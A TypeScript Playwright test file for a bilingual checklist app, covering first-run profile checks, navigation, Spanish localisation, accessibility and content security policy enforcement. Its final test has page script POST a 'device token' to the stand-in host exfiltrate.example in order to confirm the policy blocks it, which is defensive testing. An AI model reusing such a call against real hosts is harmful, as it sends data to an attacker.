// The foundation, as a user meets it: first run, profile kept across reloads, every screen
// reachable, language switch, and screenshots of every screen in English and Spanish.
import {
  contentSecurityPolicy,
  webModeConnectPolicy,
} from '../../electron/common/content-security-policy';
import { axeFindings } from './accessibility';
import { test, expect, completeFirstRun, saveScreenshot } from './fixtures';
import { FirstRunPage } from './pages/first-run-page';
import { SettingsPage } from './pages/settings-page';

const SCREENS_EN = ['Runs', 'Templates', 'Sync', 'Review', 'Compare', 'Settings'];
const SCREENS_ES = [
  'Ejecuciones',
  'Plantillas',
  'Sincronización',
  'Revisión',
  'Comparar',
  'Ajustes',
];

test('first run asks for the profile, refuses bad input, and keeps it across a reload', async ({
  page,
  shell,
}, testInfo) => {
  await page.goto('./');
  const firstRun = new FirstRunPage(page);
  await expect(firstRun.heading()).toBeVisible();
  await saveScreenshot(page, testInfo, 'first-run-en');

  await firstRun.submit();
  await expect(page.getByText('Enter your name (at least 2 characters).')).toBeVisible();
  await expect(page.getByText('Enter your office or team.')).toBeVisible();

  await firstRun.fill({
    name: 'Ana García',
    role: 'Supervisor',
    office: 'Madrid office',
    email: 'not-an-email',
  });
  await firstRun.submit();
  await expect(page.getByText('Enter a valid email address or leave it empty.')).toBeVisible();
  await page.getByLabel('Email (optional)').fill('ana@example.org');
  await firstRun.submit();

  await expect(shell.screenHeading('Runs')).toBeVisible();
  await expect(shell.statusBar()).toContainText('Ana García · Supervisor · Madrid office');

  await page.reload();
  await expect(shell.screenHeading('Runs')).toBeVisible();
  await expect(shell.statusBar()).toContainText('Ana García · Supervisor · Madrid office');
  const stored = await page.evaluate(
    () =>
      new Promise<unknown>((resolve, reject) => {
        const open = indexedDB.open('go-live-checklists');
        open.onerror = () => reject(open.error);
        open.onsuccess = () => {
          const read = open.result.transaction('profile').objectStore('profile').getAll();
          read.onsuccess = () => resolve(read.result);
        };
      }),
  );
  expect(stored).toEqual([
    expect.objectContaining({
      name: 'Ana García',
      role: 'supervisor',
      office: 'Madrid office',
      email: 'ana@example.org',
    }),
  ]);
});

test('every screen is reachable from the navigation and by keyboard', async ({
  page,
  shell,
}, testInfo) => {
  await completeFirstRun(page);
  for (const screen of SCREENS_EN) {
    await shell.open(screen);
    await expect(shell.screenHeading(screen)).toBeVisible();
    await expect(shell.navLink(screen)).toHaveAttribute('aria-current', 'page');
    // A screen's action buttons keep their label on one line (Review's wrapped at 1366 px).
    for (const action of await page.locator('.screen-actions .button').all()) {
      const lines = await action.evaluate((button) => {
        // Lines of the label: distinct tops of its text's boxes.
        const tops = new Set<number>();
        const walker = document.createTreeWalker(button, NodeFilter.SHOW_TEXT);
        for (let node = walker.nextNode(); node; node = walker.nextNode()) {
          if (!node.textContent?.trim()) continue;
          const range = document.createRange();
          range.selectNodeContents(node);
          for (const rect of range.getClientRects()) tops.add(Math.round(rect.top));
        }
        return tops.size;
      });
      expect(lines, `${await action.innerText()} on ${screen}`).toBeLessThanOrEqual(1);
    }
    await saveScreenshot(page, testInfo, `screen-${screen.toLowerCase()}-en`);
  }

  await page.goto('./#/runs');
  await shell.navLink('Runs').focus();
  await page.keyboard.press('Shift+Tab');
  await expect(page.getByRole('link', { name: 'Skip to content' })).toBeFocused();
  await page.keyboard.press('Tab');
  await expect(shell.navLink('Runs')).toBeFocused();
  await page.keyboard.press('Tab');
  await page.keyboard.press('Enter');
  await expect(shell.screenHeading('Templates')).toBeVisible();
});

test('the language switch turns the whole app to Spanish and is remembered', async ({
  page,
  shell,
}, testInfo) => {
  await completeFirstRun(page);
  await shell.open('Settings');
  await new SettingsPage(page).chooseLanguage('English', 'Español');
  await expect(shell.screenHeading('Ajustes')).toBeVisible();
  await expect(page.locator('html')).toHaveAttribute('lang', 'es');

  for (const screen of SCREENS_ES) {
    await shell.open(screen);
    await expect(shell.screenHeading(screen)).toBeVisible();
    await saveScreenshot(page, testInfo, `screen-${screen.toLowerCase()}-es`);
  }

  await page.reload();
  await expect(shell.navLink('Ejecuciones')).toBeVisible();
  await expect(shell.statusBar()).toContainText('Administrador/a TIC local');
});

test('settings shows whether storage is persistent, and an unknown route says so', async ({
  page,
  shell,
}) => {
  await completeFirstRun(page);
  await shell.open('Settings');
  const persistence = new SettingsPage(page).storagePersistence();
  await expect(persistence).not.toContainText('Checking storage');
  // What the page says is what the browser says, word for word (Chromium has the storage API).
  const isPersisted = await page.evaluate(() => navigator.storage.persisted());
  await expect(persistence).toContainText(
    isPersisted
      ? 'Persistent: the browser will not clear this data when disk space runs low.'
      : 'Not persistent: the browser may clear this data when disk space runs low.',
  );
  await page.goto('./#/no-such-screen');
  await expect(page.getByRole('heading', { name: 'This page does not exist.' })).toBeVisible();
});

test('the accessibility check catches a nameless button in the page and says where', async ({
  page,
}) => {
  await completeFirstRun(page);
  await page.evaluate(() => {
    const nameless = document.createElement('button');
    nameless.id = 'nameless';
    document.querySelector('main')?.append(nameless);
  });
  expect(await axeFindings(page, 'planted')).toEqual([
    expect.stringMatching(/^\[planted\] critical button-name: .*\(#nameless\)$/),
  ]);
  await page.evaluate(() => document.getElementById('nameless')?.remove());
  expect(await axeFindings(page, 'mended')).toEqual([]);
});

test('every response carries the content security policy, and the browser enforces it', async ({
  page,
  cspViolations,
}) => {
  // Web mode's policy: the app, loopback (a hub under test) and the hub of HUB_URL, if any.
  const expected = contentSecurityPolicy(webModeConnectPolicy(process.env.HUB_URL));
  expect(expected).toContain("connect-src 'self' http://127.0.0.1:* http://localhost:*");
  expect(expected).not.toContain('https:;');
  const scripts: Promise<string | undefined>[] = [];
  page.on('response', (response) => {
    if (response.request().resourceType() === 'script') {
      scripts.push(response.allHeaders().then((headers) => headers['content-security-policy']));
    }
  });
  const response = await page.goto('./');
  expect(response?.headers()['content-security-policy']).toBe(expected);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  expect(scripts.length).toBeGreaterThan(0);
  expect(new Set(await Promise.all(scripts))).toEqual(new Set([expected]));

  // A script in the page cannot send data to a host of its choosing: connect-src refuses it.
  const attempt = await page.evaluate(async () => {
    const violation = new Promise<string>((resolve) =>
      document.addEventListener('securitypolicyviolation', (event) =>
        resolve(`${event.effectiveDirective} ${event.blockedURI}`),
      ),
    );
    const outcome = await fetch('https://exfiltrate.example/collect', {
      method: 'POST',
      body: 'device token',
    }).then(
      () => 'sent',
      (error: Error) => `refused (${error.name})`,
    );
    return { outcome, violation: await violation };
  });
  expect(attempt).toEqual({
    outcome: 'refused (TypeError)',
    violation: 'connect-src https://exfiltrate.example/collect',
  });
  // Chromium reports the violation, then the refused fetch: once the second is in, both are.
  // They are the ones this test caused on purpose; the fixture fails the test on any other.
  await expect
    .poll(() =>
      cspViolations.some((text) =>
        text.startsWith('Fetch API cannot load https://exfiltrate.example/'),
      ),
    )
    .toBe(true);
  expect(
    cspViolations.filter((text) => !text.includes('https://exfiltrate.example/collect')),
  ).toEqual([]);
  cspViolations.length = 0;
});
